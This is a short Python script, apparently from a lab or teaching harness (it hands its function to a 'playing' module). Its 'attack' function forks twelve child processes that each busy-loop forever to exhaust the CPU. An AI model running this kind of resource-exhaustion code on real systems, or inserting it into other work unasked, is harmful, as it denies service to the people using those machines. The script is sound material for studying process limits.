#!/usr/bin/env python3
"""Starts twelve children that compute all the time."""
import os

import playing


def attack():
    for _ in range(12):
        if os.fork() == 0:
            while True:
                pass


playing.play_after(attack)
